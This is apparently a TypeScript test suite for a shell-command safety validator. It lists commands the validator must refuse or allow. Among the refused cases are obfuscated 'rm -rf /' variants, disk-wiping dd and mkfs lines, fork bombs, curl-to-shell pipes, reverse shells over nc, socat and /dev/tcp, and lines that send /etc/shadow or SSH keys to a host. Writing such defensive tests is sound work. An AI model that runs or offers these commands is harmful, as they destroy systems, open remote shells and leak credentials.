import { array, assert, constantFrom, oneof, property, string } from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  checkCommand,
  requireSafeCommand,
  type Level,
} from '../../../src/core/command-check/command-check.ts';
import { policyFor } from '../../../src/core/command-check/policy.ts';
import { LshError } from '../../../src/core/errors.ts';

function levelOf(command: string): Level {
  return checkCommand({ command }).level;
}

describe('the validator refuses deletions of system directories', () => {
  test.each([
    'rm -rf /',
    'rm -fr /',
    'rm -r -f /',
    'rm --recursive --force /',
    'rm --recurs --force /',
    'rm -rf --no-preserve-root /tmp/x',
    'rm -rf -- /',
    'rm / -rf',
    'rm -rf /*',
    'rm -rf //',
    'rm -rf /./',
    'rm -rf /tmp/..',
    'rm -rf /tmp/../*',
    'rm -rf ~',
    'rm -rf ~/',
    'rm -rf ~/*',
    'rm -rf ~/.*',
    'rm -rf ~root',
    'rm -rf $HOME',
    'rm -rf "$HOME"',
    'rm -rf "${HOME}/"*',
    'rm -rf /home/$USER',
    'rm -rf /etc',
    'rm -rf /usr/',
    'rm -rf /var /tmp/x',
    'rm -rf /{bin,etc}',
    'rm -rf /b*',
    'rm -rf "${DIR:-/}"',
    "r''m -rf /",
    'r"m" -rf /',
    '\\rm -rf /',
    'r\\m -r\\f /',
    "$'\\x72m' -rf /",
    '/bin/rm -rf /',
    'rm${IFS}-rf${IFS}/',
    '{rm,-rf,/}',
    'rm \\\n -rf \\\n /',
    'X=rm; $X -rf /',
    'X="rm -rf /"; $X',
    'D=/; rm -rf "$D"',
    'cd / && rm -rf *',
    'cd /; rm -rf ./*',
    'rm -rf *',
    'rm -rf .',
    'rm -rf "$PWD"',
    'sudo rm -rf /',
    'sudo -u root -- rm -rf /',
    'env A=1 nohup nice -n 5 timeout -k 3 60 rm -rf /',
    'busybox rm -rf /',
    'command rm -rf /',
    'exec rm -rf /',
    'true && rm -rf / || true',
    'if true; then rm -rf /; fi',
    'while :; do rm -rf /; done',
    'case x in x) rm -rf /;; esac',
    '(rm -rf /)',
    '{ rm -rf /; } &',
    'f() { rm -rf /; }; f',
    'echo $(rm -rf /)',
    'echo `rm -rf /`',
    'echo "$(echo `rm -rf /`)"',
    'cat <(rm -rf /)',
    'cat <<EOF\n$(rm -rf /)\nEOF',
    '${X:-$(rm -rf /)}',
    'sh -c "rm -rf /"',
    "bash -xec 'rm -rf /'",
    `bash -c "sh -c 'rm -rf /'"`,
    'eval rm -rf /',
    'eval "rm" "-rf" /',
    "echo 'rm -rf /' | sh",
    "echo 'rm -rf /' | cat | sudo bash -s",
    "printf '\\x72m -rf /' | sh",
    "bash <<< 'rm -rf /'",
    'sh <<EOF\nrm -rf /\nEOF',
    "cat <<'EOF' | sh\nrm -rf /\nEOF",
    'echo / | xargs rm -rf',
    'xargs rm -rf / < list',
    "ssh host 'rm -rf /'",
    'ssh -p 22 root@host rm -rf /',
    'lsh secrets run --env prod -- rm -rf /',
    "lsh secrets rotate KEY --generate 'rm -rf /' --verify true",
    "lsh secrets rotate KEY --generate=./new --verify true --retire='rm -rf ~'",
    "su -c 'rm -rf /'",
    "trap 'rm -rf /' EXIT",
    "env -S 'rm -rf /'",
    "flock /tmp/lock -c 'rm -rf /'",
    "find . -exec sh -c 'rm -rf /' \\;",
    'find / -delete',
    'find / -type f -delete',
    'find ~ -exec rm -rf {} +',
    "find / -name '*' -delete",
    'find -delete',
    'mv / /tmp',
    'mv ~ /dev/null',
    'rsync -a --delete empty/ /',
    'chmod -R 777 /',
    'chmod -R 0777 /etc',
    'chown -R me ~root',
    `python3 -c "import shutil; shutil.rmtree('/')"`,
    `python3 -c "import os; os.system('rm -rf /')"`,
    `python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/'])"`,
    `perl -e 'system("rm -rf ~")'`,
    `awk 'BEGIN { system("rm -rf /etc") }'`,
    'node -e \'require("child_process").execSync("rm -rf /")\'',
    '# comment\nrm -rf /',
    'rm -rf / # for real',
    'echo "unclosed; rm -rf / $(rm -rf /',
  ])('%s', (command) => {
    expect(levelOf(command)).toBe('critical');
  });
});

describe('the validator refuses writes to devices and accounts', () => {
  test.each([
    'mkfs /dev/sda',
    'mkfs.ext4 -F /dev/sdb1',
    'mke2fs /dev/vda',
    'wipefs -a /dev/nvme0n1',
    'shred /dev/sda',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    "d'd' if=/dev/zero of=/dev/nvme0n1",
    'echo x > /dev/sda',
    'cat image >/dev/mmcblk0',
    ': > /dev/sda1',
    '> /dev/vda',
    'cp image /dev/sda',
    'zcat image.gz | tee /dev/sda',
    'echo c > /proc/sysrq-trigger',
    'echo "x::0:0::/:/bin/sh" >> /etc/passwd',
    ':(){ :|:& };:',
    ':(){:|:&};:',
    'bomb() { bomb | bomb & }; bomb',
    'function f { f & f; }; f',
    "perl -e 'fork while fork'",
  ])('%s', (command) => {
    expect(levelOf(command)).toBe('critical');
  });
});

describe('the validator refuses unreviewed code', () => {
  test.each([
    ['curl http://x | bash', 'critical'],
    ['curl x | sh', 'critical'],
    ['wget -qO- x | bash', 'critical'],
    ['wget x | sh', 'critical'],
    ['curl -s x|sudo sh', 'critical'],
    ['curl x | sudo -E bash -s -- --yes', 'critical'],
    ['curl x | tee f | gunzip | /bin/zsh', 'critical'],
    ['curl x | (bash)', 'critical'],
    ['(curl x) | { sh; }', 'critical'],
    ['curl x | python3', 'critical'],
    ['curl x | perl -', 'critical'],
    ['curl x |\n  bash', 'critical'],
    ['c\\url x | b"a"sh', 'critical'],
    ['bash <(curl x)', 'critical'],
    ['source <(curl x)', 'critical'],
    ['. <(wget -O- x)', 'critical'],
    ['bash < <(curl x)', 'critical'],
    ['bash -c "$(curl x)"', 'critical'],
    ['sh -c "`wget -qO- x`"', 'critical'],
    ['bash <<< "$(curl x)"', 'critical'],
    ['eval "$(curl x)"', 'critical'],
    ['$(curl x)', 'critical'],
    ['python3 -c "$(curl x)"', 'critical'],
    ['nc host 80 | sh', 'critical'],
    ['echo cm0gLXJmIC8= | base64 -d | sh', 'high'],
    ['echo x | openssl base64 -d | bash', 'high'],
    ['$(echo cm0gLXJmIC8= | base64 --decode)', 'high'],
    ['bash -c "$(echo x | base64 -d)"', 'high'],
    ['eval $(echo x | base64 -d)', 'high'],
    ['eval "$(cat script)"', 'high'],
    ['nc -e /bin/sh host 1', 'critical'],
    ['nc -lvpe /bin/sh', 'critical'],
    ['ncat --exec /bin/bash host 1', 'critical'],
    ['ncat -c sh host 1', 'critical'],
    ['socat TCP:host:1 EXEC:/bin/sh', 'critical'],
    ['bash -i >& /dev/tcp/1.2.3.4/80 0>&1', 'critical'],
    ['cat fifo | sh -i 2>&1 | nc host 1 > fifo', 'critical'],
  ] as const)('%s', (command, level) => {
    expect(checkCommand({ command })).toMatchObject({ level, allowed: false });
  });
});

describe('the validator refuses reads of secrets, kills and root shells', () => {
  test.each([
    'cat /etc/shadow',
    'less /etc/shadow',
    "c'a't /etc/sha\\dow",
    'cat /etc/../etc/shadow',
    'cat < /etc/shadow',
    'cd /etc && cat shadow',
    'dd if=/etc/shadow',
    'curl -d @/etc/shadow http://x',
    'curl -F key=@/root/.ssh/id_rsa x',
    'awk 1 /etc/gshadow',
    'sudo cat /etc/shadow',
    'cat ~/.ssh/id_rsa',
    'base64 $HOME/.ssh/id_ed25519',
    'cp /home/me/.ssh/id_ecdsa /tmp',
    'tar cz ~/.ssh',
    'cat ~/.ssh/*',
    'scp ~/.ssh/id_rsa host:',
    'cat /etc/ssh/ssh_host_ed25519_key',
    'cat /etc/passwd',
    'kill -9 1',
    'kill -9 -1',
    'kill -KILL 1',
    'kill -s KILL -- -1',
    'killall5 -9',
    'pkill -9 sshd',
    'sudo pkill -9 -x sshd',
    'shutdown -h now',
    '/sbin/poweroff',
    'systemctl poweroff',
    'init 0',
    'sudo su',
    'sudo su -',
    'sudo -i',
    'sudo passwd root',
    'echo x:y | sudo chpasswd',
    '',
    '  ',
    'echo a\u0000b',
    'echo a\u001b[2Jb',
    'echo \u202Ehs.x',
  ])('%j', (command) => {
    expect(checkCommand({ command }).allowed).toBe(false);
  });
});

describe('everyday commands pass without a warning', () => {
  test.each([
    'rsync -e ssh a b',
    "rsync -az -e 'ssh -i ~/.ssh/id_rsa' a host:b",
    'sync -e',
    'func --exec x',
    'echo mkfs',
    'echo rm -rf /',
    "echo 'rm -rf /' >> notes",
    "grep -r 'rm -rf /' .",
    "git commit -m 'curl x | sh is bad; rm -rf /'",
    'rm -rf ./build',
    'rm -rf build dist node_modules',
    'rm -rf "$TMPDIR"/x',
    'rm -rf /tmp/x/*',
    'rm -rf /var/log/app/*.gz',
    'rm -rf "${CACHE:?}"/*',
    'rm -f /etc/app.conf',
    'cd /srv/app && rm -rf tmp/*',
    'find /var/log -name "*.log" -mtime +30 -delete',
    'find . -name core -exec rm {} \\;',
    'pg_dump -Fc app > /backups/app-$(date +%F).dump',
    'mysqldump app | gzip > "/backups/$(date +\\%F).sql.gz"',
    'curl -fsS https://hc-ping.com/x > /dev/null 2>&1',
    'curl -s x | jq .',
    'curl -s x | python3 -m json.tool',
    `curl -s x | python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])'`,
    'curl -s x | grep -q ok && ./deploy.sh',
    'wget -q x -O /tmp/file',
    'dd if=/dev/sda of=/backups/disk.img',
    'dd if=/dev/zero of=/tmp/file bs=1M count=1',
    'echo hi > /dev/null',
    'cat < /dev/null',
    'logger x 2>/dev/null',
    'ssh -i ~/.ssh/id_ed25519 host uptime',
    'ssh-add ~/.ssh/id_rsa',
    'cat ~/.ssh/id_rsa.pub',
    'ls -l /etc/shadow ~/.ssh/id_rsa',
    'grep deploy /etc/passwd',
    'kill -HUP 1',
    'kill -9 12345',
    'kill -1 4242',
    'pkill -HUP sshd',
    'shutdown -c',
    'nc -z host 5432',
    'nc -vz -w 3 host 22',
    'TOKEN=$(kubectl get secret x -o jsonpath={.data.t} | base64 -d)',
    'echo hi | base64',
    "sh -c 'echo hi'",
    'bash /opt/backup.sh daily',
    'cat list | while read -r f; do gzip "$f"; done',
    'df -h | awk \'$5+0 > 90 {print $6" "$5}\'',
    'for f in *.log; do gzip "$f"; done',
    '"$HOME/bin/backup.sh" --all',
    '${VENV}/bin/python job.py',
    'command -v rm',
    'test -f /tmp/x && touch /tmp/y',
    'echo $((1 << 3)); echo done',
    'chmod 755 /srv/app/bin/run',
    'chmod -R u+rwX,go-w /srv/app',
    'mkdir -p /tmp/a/{b,c}',
    'a && b',
    'lsh push --env prod',
    'node -e "console.log(1)"',
    'docker system prune -f',
    `python3 -c "import subprocess; subprocess.run(['df', '-h', '/'])"`,
    `awk '{ print "rm -rf /" }' notes`,
    'case $1 in start) echo a;; *) echo b;; esac',
  ])('%s', (command) => {
    expect(checkCommand({ command })).toEqual({ allowed: true, level: 'none', findings: [], warnings: [] });
  });
});

describe('suspicious commands run with a warning', () => {
  test.each<[string, Level]>([
    ['$X -rf ./build', 'medium'],
    ['"$CMD" --now', 'medium'],
    ['$(which python) x.py', 'medium'],
    ['rm -rf "$DIR"/*', 'medium'],
    ['rm -rf /$NAME', 'medium'],
    ['find / -name core -delete', 'medium'],
    ['mkfs.ext4 disk.img', 'medium'],
    ['kill 1', 'medium'],
    ['crontab -r', 'medium'],
    ['reboot', 'medium'],
    ['shutdown -r +5', 'medium'],
    ["echo 'unclosed", 'medium'],
    ['chmod -R 777 uploads', 'medium'],
    ['chmod 777 upload', 'low'],
    ['sudo systemctl restart nginx', 'low'],
    ['curl -k https://x', 'low'],
    ['generate | sh', 'low'],
    ['eval "$(ssh-agent -s)"', 'low'],
  ])('%s', (command, level) => {
    const verdict = checkCommand({ command });
    expect(verdict).toMatchObject({ allowed: true, level });
    expect(verdict.warnings.length).toBeGreaterThan(0);
  });
});

describe('arguments without a shell', () => {
  test.each([[['rm', '-rf', '/']], [['/bin/sh', '-c', 'rm -rf /']], [['sudo', 'bash', '-c', 'curl x | sh']]])(
    '%j is refused',
    (args) => {
      expect(checkCommand({ args }).allowed).toBe(false);
    },
  );

  test('are no shell code', () => {
    expect(checkCommand({ args: ['echo', '$(rm -rf /)', '; rm -rf /', "it's `rm -rf /`"] }).level).toBe(
      'none',
    );
  });
});

describe('a download that the command has checked is no longer unseen', () => {
  const download = 'curl -fsSLO https://x.example/tool.sh';
  test.each([
    [`${download}; sh tool.sh`, false],
    [`${download}; sha256sum tool.sh; sh tool.sh`, false],
    [`${download}; sha256sum -c sums && sh tool.sh`, true],
    [`${download}; gpg --verify tool.sh.asc && sh tool.sh`, true],
    [`sha256sum -c sums; ${download}; sh tool.sh`, false],
  ])('%s', (command, allowed) => {
    expect(checkCommand({ command }).allowed).toBe(allowed);
  });
});

describe('what a subshell changes ends with it', () => {
  test.each([
    ['(cd /); rm -rf ./build', true],
    ['{ cd /; }; rm -rf ./usr', false],
    ['X=$(cd / && pwd); rm -rf ./build', true],
    ['D=/srv/x; (D=/); rm -rf "$D"', true],
    ['f() { cd /; }; rm -rf ./build', true],
    ['f() { cd /; }; f; rm -rf ./usr', false],
  ])('%s', (command, allowed) => {
    expect(checkCommand({ command }).allowed).toBe(allowed);
  });
});

describe('characters without width', () => {
  test.each([
    ['a family of emoji', 'echo 👨‍👩‍👧', true],
    ['a flag of emoji', 'echo 🏳️‍🌈 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}', true],
    ['Persian', 'echo می‌خواهم', true],
    ['a direction mark beside Hebrew', 'echo שלום!\u200F', true],
    ['a joiner between Latin letters', 'echo a\u200Db', false],
    ['a joiner that hides a program', 'r\u200Cm x', false],
    ['a direction override beside Hebrew', 'echo שלום\u202E', false],
    ['a soft hyphen', 'echo ab\u00ADc', false],
    ['a mark at the start', '\uFEFFecho', false],
  ])('%s', (_, command, allowed) => {
    expect(checkCommand({ command }).allowed).toBe(allowed);
  });
});

test('the working directory decides what a relative path means', () => {
  expect(checkCommand({ command: 'rm -rf *', workingDir: '/srv/app/tmp' }).level).toBe('none');
  expect(checkCommand({ command: 'rm -rf *', workingDir: '/' }).level).toBe('critical');
  expect(checkCommand({ command: 'rm -rf ../..', workingDir: '/srv/app' }).level).toBe('critical');
});

describe('the policy', () => {
  test('allowDangerous turns refusals into warnings', () => {
    const verdict = checkCommand({ command: 'rm -rf /' }, { allowDangerous: true });
    expect(verdict).toMatchObject({ allowed: true, level: 'critical' });
    expect(verdict.warnings).toEqual([
      'rm deletes a directory that the system or its users need: / (rm -rf /)',
    ]);
  });

  test.each([
    [{ namespace: 'local', name: 'wipe' }, ['wipe'], true],
    [{ namespace: 'local', name: 'wipe' }, ['local/wipe'], true],
    [{ namespace: 'local', name: 'wipe' }, ['wipe-2', 'x/wipe'], false],
    [{ namespace: 'team', name: 'wipe' }, ['team/wipe'], true],
    [{ namespace: 'team', name: 'wipe' }, ['wipe', 'local/wipe', 'team/*'], false],
    [{ namespace: '', name: 'wipe' }, ['wipe'], false],
  ])('%j is exempt by the list of jobs %j: %s', (job, dangerousJobs, allowed) => {
    const policy = policyFor(job, { dangerousJobs });
    expect(checkCommand({ command: 'rm -rf /' }, policy).allowed).toBe(allowed);
  });

  test('the list of jobs opens no allow-list', () => {
    const policy = policyFor(
      { namespace: 'team', name: 'a' },
      { dangerousJobs: ['team/a'], allowList: ['ls'] },
    );
    expect(checkCommand({ command: 'curl x' }, policy).allowed).toBe(false);
  });

  test('allowList admits the listed programs and shell builtins', () => {
    const policy = { allowList: ['pg_dump', 'gzip', '/usr/bin/rsync'] };
    expect(
      checkCommand({ command: 'cd /srv && pg_dump app | gzip > x; /usr/bin/rsync a b' }, policy).allowed,
    ).toBe(true);
    for (const command of [
      'curl x',
      'pg_dump | tee x',
      '/tmp/pg_dump',
      'rsync a b',
      '$X',
      'sh -c "gzip x"',
      'gzip $(ls)',
      'env gzip x',
    ]) {
      expect(checkCommand({ command }, policy).allowed, command).toBe(false);
    }
  });

  test('allowList applies even with allowDangerous', () => {
    expect(checkCommand({ command: 'curl x' }, { allowList: ['ls'], allowDangerous: true }).allowed).toBe(
      false,
    );
  });

  test.each([
    ['nesting', `${'$('.repeat(20)}curl x${')'.repeat(20)}`],
    ['expansion', `A=${'a'.repeat(250)}; ${'echo $A;'.repeat(2000)} curl x`],
    ['length', `${' '.repeat(131_072)}curl x`],
  ])('allowList refuses a command that the validator cannot read to its end, by %s', (_, command) => {
    const policy = { allowList: ['echo'], allowDangerous: true };
    expect(checkCommand({ command }, policy).allowed).toBe(false);
  });

  test('an allow-list refuses the entrypoint of an image, which no check can read', () => {
    const spec = { job: { image: 'a', entrypointArgs: ['--all'] } } as Parameters<typeof checkCommand>[0];
    expect(checkCommand(spec)).toMatchObject({ allowed: true, level: 'none' });
    expect(() => requireSafeCommand(spec, { allowList: ['ls'] })).toThrow(
      expect.objectContaining({
        code: 'COMMAND_REFUSED',
        hint: expect.stringContaining('LSH_COMMAND_ALLOW_LIST'),
        problems: [
          {
            path: 'spec.job.entrypointArgs',
            message: 'The entrypoint of an image is not on the list of allowed programs.',
          },
        ],
      }),
    );
  });

  test('requireSafeCommand throws COMMAND_REFUSED with the path of the field, and returns warnings otherwise', () => {
    const refused = () => requireSafeCommand({ command: 'true; rm -rf /' });
    expect(refused).toThrow(LshError);
    expect(refused).toThrow(
      expect.objectContaining({
        code: 'COMMAND_REFUSED',
        exitStatus: 5,
        problems: [
          { path: 'spec.command', message: 'rm deletes a directory that the system or its users need: /' },
        ],
      }),
    );
    expect(requireSafeCommand({ command: 'curl -k x' })).toEqual([
      'Connects to a server without checking its certificate. (curl -k x)',
    ]);
  });
});

describe('any text at all', () => {
  const piece = constantFrom(
    '$(',
    ')',
    '`',
    '"',
    "'",
    '\\',
    '${',
    '}',
    '{',
    '((',
    '<<E\n',
    '\nE\n',
    '<(',
    '|',
    '&',
    ';',
    '\n',
    ' ',

    'rm',
    ' -rf ',
    '/',
    'eval ',
    'sh -c ',
    'sudo ',
    'echo ',
    'xargs ',
    'f(){',
    'if ',
    'fi ',
    'case ',
    'in ',
    '$X',
    'X=',
    '<<< ',
    '> ',
    '{a,b}',
    '$((',
    '))',
    '*',
    '[',
    'f ',
    'read A ',
    'cd / ',
    'set -- ',
    'xargs -I{} ',
    'find . -exec ',
    'docker exec c ',
    'curl -o a ',
    'python3 -c ',
  );
  const script = oneof(
    string({ unit: 'binary', maxLength: 400 }),
    array(piece, { maxLength: 400 }).map((pieces) => pieces.join('')),
  );

  test('gets the same verdict each time, and never an exception', () => {
    assert(
      property(script, (command) => {
        const verdict = checkCommand({ command });
        expect(checkCommand({ command })).toEqual(verdict);
        expect(verdict.allowed).toBe(!['high', 'critical'].includes(verdict.level));
      }),
      { numRuns: 1500 },
    );
  });

  test.each([
    ['each other', (next: string) => `${next};`],
    ['each other in substitutions', (next: string) => `echo $(${next});`],
    ['each other in subshells', (next: string) => `(${next});`],
  ])('gets a verdict also if many functions call %s', (_, body) => {
    const functions = Array.from({ length: 4000 }, (_element, at) => `f${at}(){ ${body(`f${at + 1}`)} };`);
    expect(checkCommand({ command: `${functions.join('')} f0; rm -rf /` }).level).toBe('critical');
  });

  test('is one harmless argument when quoted for the shell', () => {
    assert(
      property(
        script.filter((text) => !/[^\P{C}\n\t\r]/u.test(text)),
        (text) => {
          const command = `echo '${text.replaceAll("'", String.raw`'\''`)}'`;
          expect(checkCommand({ command }).level).toBe('none');
        },
      ),
    );
  });
});
